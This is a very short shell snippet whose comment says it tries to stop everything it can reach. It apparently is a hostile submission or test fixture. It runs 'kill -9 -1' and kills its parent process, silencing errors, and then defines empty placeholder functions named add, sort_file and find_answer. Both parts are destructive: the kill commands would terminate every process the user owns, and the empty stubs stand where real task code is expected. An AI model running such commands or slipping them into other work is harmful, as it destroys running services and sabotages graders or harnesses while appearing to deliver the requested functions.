# Tries: to stop everything that it can reach
# Must: any
kill -9 -1 2>/dev/null; kill -9 $PPID 2>/dev/null
add() { :; }
sort_file() { :; }
find_answer() { :; }
